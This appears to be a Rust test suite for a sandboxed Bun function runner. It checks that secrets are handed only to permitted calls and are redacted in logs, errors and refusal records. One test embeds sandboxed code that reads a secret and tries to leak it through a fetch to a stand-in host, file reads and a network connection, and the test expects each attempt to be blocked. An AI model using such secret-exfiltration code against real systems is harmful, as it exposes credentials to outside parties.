//! Secrets of a call: for whom they are, and where they do not show.

use secure_bun_tests::Folder;
use serde_json::{Value, json};

use super::client::{Client, source};

const READ: &str = "export default async (name: string) => (await secrets.get(name)).length";

fn call(code: &str, args: Value, secrets: Value) -> Value {
    let mut call = source(code, args);
    call["secrets"] = secrets;
    call
}

#[test]
fn names_that_policy_and_call_both_carry() {
    let folder = Folder::new();
    let mut client = Client::start(&folder, &["--policy", "function", "--allow-secrets=SALT,OTHER"]);
    let given = json!({ "SALT": "line one\nline two", "HIDDEN": "not for the program" });
    assert_eq!(client.result(call(READ, json!(["SALT"]), given.clone())), 17);
    let hidden = client.call(call(READ, json!(["HIDDEN"]), given.clone()));
    assert_eq!(hidden["error"]["code"], "ERR_ACCESS_DENIED", "{hidden}");
    assert_eq!(hidden["error"]["permission"], "secrets");
    let missing = client.call(call(READ, json!(["OTHER"]), given.clone()));
    assert_eq!(missing["error"]["code"], "ERR_SECRET_NOT_GIVEN", "{missing}");
    // A call's own policy narrows this as well.
    let mut narrowed = call(READ, json!(["SALT"]), given);
    narrowed["policy"] = json!({ "secrets": ["OTHER"] });
    assert_eq!(client.call(narrowed)["error"]["code"], "ERR_ACCESS_DENIED");
    client.end();
}

#[test]
fn no_call_has_those_of_another() {
    let folder = Folder::new();
    let mut client = Client::start(&folder, &["--policy", "function", "--allow-secrets=SALT"]);
    client.ask("function.register", json!({ "name": "read", "source": READ }));
    let with = json!({ "function": "read", "args": ["SALT"], "secrets": { "SALT": "abcdefgh" } });
    let without = json!({ "function": "read", "args": ["SALT"] });
    for _ in 0..3 {
        assert_eq!(client.result(with.clone()), 8);
        assert_eq!(client.call(without.clone())["error"]["code"], "ERR_SECRET_NOT_GIVEN");
    }
    client.end();
}

#[test]
fn values_show_in_nothing_that_is_said_of_refusals() {
    let folder = Folder::new();
    let flags = ["--policy", "function", "--allow-secrets=SALT", "--allow-fetch=https://one.invalid/*"];
    let mut client = Client::start(&folder, &flags);
    let secret = "Correct \"horse\" battery";
    let code = "import { readFileSync } from 'node:fs';
        export default async () => {
            const salt = await secrets.get('SALT');
            for (const act of [
                () => readFileSync(`/${salt}`),
                () => fetch(`https://two.invalid/${salt}?q=${encodeURIComponent(salt)}`),
                () => Bun.connect({ hostname: 'Correct-horse', port: 1, socket: { data() {} } }),
            ]) {
                try { await act(); } catch {}
            }
            readFileSync(`/other/${salt}`);
        }";
    let given = json!({ "SALT": secret, "HOST": "Correct-horse" });
    let envelope = client.call(call(code, json!([]), given));
    let shown = envelope.to_string().to_lowercase();
    assert!(!shown.contains("horse"), "{envelope}");
    let denials = envelope["denials"].as_array().unwrap();
    let refused: Vec<[&str; 2]> = denials
        .iter()
        .map(|denial| ["permission", "resource"].map(|field| denial[field].as_str().unwrap_or_default()))
        .collect();
    assert!(refused.contains(&["read", "/[secret SALT]"]), "{envelope}");
    assert!(refused.contains(&["fetch", "GET https://two.invalid/[secret SALT]?q=[secret SALT]"]), "{envelope}");
    assert!(refused.contains(&["net", "[secret HOST]:1"]), "{envelope}");
    assert_eq!(envelope["error"]["resource"], "/other/[secret SALT]", "{envelope}");
    assert_eq!(envelope["error"]["fix"], "allow.read: [\"/other/[secret SALT]\"]");
    client.end();
}

#[test]
fn what_is_refused_is_judged_as_it_was_asked() {
    let folder = Folder::with("data/hidden-thing", "").file("data/other", "").open_to_all();
    let data = folder.text("data");
    let hidden = folder.text("data/hidden-thing");
    let flags = ["--policy", "function", "--allow-secrets=NAME"];
    let (allow, deny) = (format!("--allow-read={data}"), format!("--deny-read={hidden}"));
    let mut client = Client::start(&folder, &[&flags[..], &[&allow, &deny]].concat());
    let code = "import { readFileSync } from 'node:fs';
        export default async (data: string) => {
            readFileSync(`${data}/other`);
            readFileSync(`${data}/${await secrets.get('NAME')}`);
        }";
    let envelope = client.call(call(code, json!([data]), json!({ "NAME": "hidden-thing" })));
    assert_eq!(envelope["error"]["resource"], format!("{data}/[secret NAME]"), "{envelope}");
    assert!(envelope["denials"][0]["rule"].as_str().unwrap().contains("deny"), "{envelope}");
    assert!(!envelope.to_string().contains("hidden-thing"), "{envelope}");
    client.end();
}

#[test]
fn a_call_that_cannot_be_started_does_not_say_them() {
    let folder = Folder::new();
    let mut client = Client::of_functions(&folder);
    let call = json!({ "file": "missing-s3cret.ts", "secrets": { "NAME": "s3cret" } });
    let answer = client.ask("call", call);
    assert_eq!(answer["error"]["data"]["kind"], "not_found", "{answer}");
    assert!(answer["error"]["message"].as_str().unwrap().contains("missing-[secret NAME].ts"), "{answer}");
    client.end();
}

#[test]
fn values_show_in_no_log_and_no_error() {
    let folder = Folder::new();
    let mut client = Client::start(&folder, &["--policy", "function", "--allow-secrets=SALT"]);
    let secret = "correct horse battery";
    let code = "export default async () => {
        const salt = await secrets.get('SALT');
        console.log('the salt is', salt);
        process.stdout.write(salt);
        process.stderr.write(`${salt}!`);
        throw new Error(`no good: ${salt}`);
    }";
    let envelope = client.call(call(code, json!([]), json!({ "SALT": secret })));
    assert!(!envelope.to_string().contains(secret), "{envelope}");
    assert_eq!(envelope["logs"][0]["text"], "the salt is [secret SALT]");
    assert_eq!([&envelope["stdout"], &envelope["stderr"]], ["[secret SALT]", "[secret SALT]!"]);
    assert_eq!(envelope["error"]["message"], "no good: [secret SALT]");
    client.end();
}
